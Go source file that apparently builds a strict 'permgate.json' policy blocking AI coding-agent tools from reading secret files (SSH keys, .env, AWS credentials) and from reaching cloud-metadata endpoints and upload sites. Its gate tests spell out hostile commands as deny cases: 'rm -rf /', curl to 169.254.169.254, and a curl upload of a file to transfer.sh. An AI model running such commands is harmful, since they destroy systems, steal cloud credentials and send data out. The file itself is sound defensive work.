package profile

import (
	"fmt"
	"strings"

	"github.com/permgate--owner/permgate/rules/load"
)

// Keys of permgate.json that the strict profile sets for a whole team. In a
// project they can only tighten.
var (
	excluded = [...]string{
		"**/.env", "**/.env.local", "**/.env.production", "**/*.pem", "**/*.p12", "**/*.pfx", "**/id_rsa", "**/id_ed25519",
		"~/.ssh/**", "~/.gnupg/**", "~/.aws/credentials", "~/.netrc",
	}
	unwanted = [...]string{ // the first two hand out the credentials of a cloud machine
		"169.254.169.254", "metadata.google.internal",
		"pastebin.com", "transfer.sh", "webhook.site", "*.ngrok.io", "*.requestbin.com",
	}
	gateTests = [...]string{
		"deny Bash rm -rf /", "deny Read certs/ca.pem => excluded content",
		"deny WebFetch http://169.254.169.254/latest/meta-data/",
		"deny Bash curl -s http://169.254.169.254/latest/meta-data/",
		"deny WebFetch https://pastebin.com/raw/x", "deny Bash curl -F f=@README.md https://transfer.sh",
	}
)

// Gate is the text of permgate.json, nil for a profile that has none.
func (p *Policy) Gate() []byte {
	if p.Profile != Strict {
		return nil
	}
	var b strings.Builder
	b.WriteString(`{
  // What permgate does beyond the rules of settings.json. A project's file can only tighten;
  // keys that loosen belong in your own permgate.json, which permgate install writes:
`)
	var own []string
	for i := range load.PostureKeys {
		if k := &load.PostureKeys[i]; len(k.Loosen) > 0 && k.Name != "catastrophic" {
			own = append(own, k.Name)
		}
	}
	for _, line := range fold(strings.Join(own, ", "), 90) {
		b.WriteString("  //   " + line + "\n")
	}
	fmt.Fprintf(&b, `
  // Commands that destroy a system are denied, not asked about.
  "catastrophic": "deny",

  // Secrets: no tool or command may read or change these files.
  "contentExclusion": [
    %s
  ],

  // Addresses that serve cloud credentials, and sites to upload data to.
  "urls": {
    "deny": [
      %s
    ]
  }
}
`, strings.Join(quoted(excluded[:]), ",\n    "), strings.Join(quoted(unwanted[:]), ",\n      "))
	return []byte(b.String())
}
